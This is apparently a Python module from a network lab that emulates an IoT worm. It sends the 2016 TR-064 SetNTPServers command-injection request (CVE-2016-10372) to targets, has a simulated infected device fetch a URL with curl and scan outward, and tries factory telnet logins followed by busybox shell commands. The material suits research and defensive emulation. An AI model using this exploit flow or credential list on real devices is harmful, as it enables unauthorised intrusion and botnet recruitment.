"""Break-ins: the request of 2016 and what follows where it works, and factory logins at telnet consoles."""

from __future__ import annotations

import subprocess
import time
from collections.abc import Iterable
from urllib.parse import urlsplit

from lab import plan
from lab.scans import scan_outward
from lab.services import ask_dns, telnet_login
from lab.soap import SOAP_ACTION, request_of_2016
from lab.stage import Stage
from lab.wire import connect

__all__ = ["exploit", "fall", "logins"]


def exploit(stage: Stage, source: str, targets: Iterable[str], url: str) -> None:
    """Send the request of 2016 to each target over a real connection and note what came back."""
    request, value = request_of_2016(url)
    for target in targets:
        with stage.journal.act(
            "request-of-2016",
            "SetNTPServers with an injected command",
            kind="exploit-attempt",
            interface="cwmp-cr",
            ports=[plan.CPE_PORT],
            remotes=[source],
        ) as event:
            event.payload = {
                "url": url,
                "host": urlsplit(url).hostname,
                "method": "POST",
                "path": "/UD/act?1",
                "soap_action": SOAP_ACTION,
                "parameter": "NewNTPServer1",
                "value": value,
                "incident": "eir-d1000-2016",
                "cve": "CVE-2016-10372",
                "delivered": False,
                "status": None,
            }
            event.saw(target, "unanswered")
            event.count("connections")
            try:
                event.payload["status"] = _deliver(stage, source, target, request, event.payload)
            except ConnectionRefusedError:
                event.saw(target, "refused")
            except TimeoutError:
                pass  # silence: at the handshake (nothing delivered) or after the request
            if event.payload["delivered"]:
                event.saw(target, "answered" if event.payload["status"] is None else "conversed")


def _deliver(
    stage: Stage, source: str, target: str, request: bytes, payload: dict[str, object]
) -> int | None:
    """The HTTP status of the answer, None for silence; OSError when no connection came about."""
    with stage.topology.inside("outside"):
        sock = connect(source, target, plan.CPE_PORT, timeout=1.5)
    with sock:
        sock.sendall(request)
        payload["delivered"] = True
        answer = sock.recv(4096)
    return int(answer.split(b" ", 2)[1]) if answer else None


def fall(stage: Stage, device: plan.Device, url: str) -> None:
    """What an infected device does: it looks the host up, fetches the file, and scans outward (rule B9)."""
    host = str(urlsplit(url).hostname)
    if host.endswith(".invalid"):
        with stage.journal.act(
            "fall",
            f"{device.name} looks up a name that does not exist",
            transport="udp",
            ports=[53],
            direction="outbound",
            remotes=[plan.DNS],
        ) as event:
            event.payload = {"name": host, "address": ask_dns(stage.topology, device, host)}
            event.saw(device.v4, "conversed")
        return
    with stage.journal.act(
        "fall",
        f"{device.name} fetches what the request named",
        kind="compromised-device",
        ports=[80],
        direction="outbound",
        remotes=[host],
    ) as event:
        event.payload = {"url": url, "host": host}
        command = ("curl", "--silent", "--noproxy", "*", "--max-time", "3", "--user-agent", "Wget/1.14 (lab)")
        subprocess.run(
            stage.topology.command(device.name, *command, "--output", "/dev/null", url), check=True
        )
        event.saw(device.v4, "conversed")
        event.count("connections")
    time.sleep(0.5)
    for interface, ports in (("cwmp-cr", [plan.CPE_PORT]), ("telnet", [23, 2323])):
        scan_outward(stage, device, interface, ports)


def logins(stage: Stage) -> None:
    """A worm tries factory logins at two cameras: one takes the second, the other takes none."""
    tried = (("admin", "admin"), ("root", "admin"), ("guest", "guest"))
    commands = ("enable", "system", "shell", "sh", "/bin/busybox LAB")
    for name in ("cam-iris", "cam-juniper"):
        target = plan.device(name).v4
        with stage.journal.act(
            "telnet-logins",
            f"factory logins at {name}",
            kind="exploit-attempt",
            interface="telnet",
            ports=[23],
            remotes=[plan.WORM_TELNET],
        ) as event:
            with stage.topology.inside("outside"):
                login = telnet_login(plan.WORM_TELNET, target, tried, commands)
            event.saw(target, "conversed")
            event.count("connections")
            attempts = tried[: tried.index(login) + 1] if login else tried
            event.payload = {
                "logins": [list(pair) for pair in attempts],
                "accepted": list(login) if login else None,
                "commands": list(commands) if login else [],
                "delivered": True,
            }
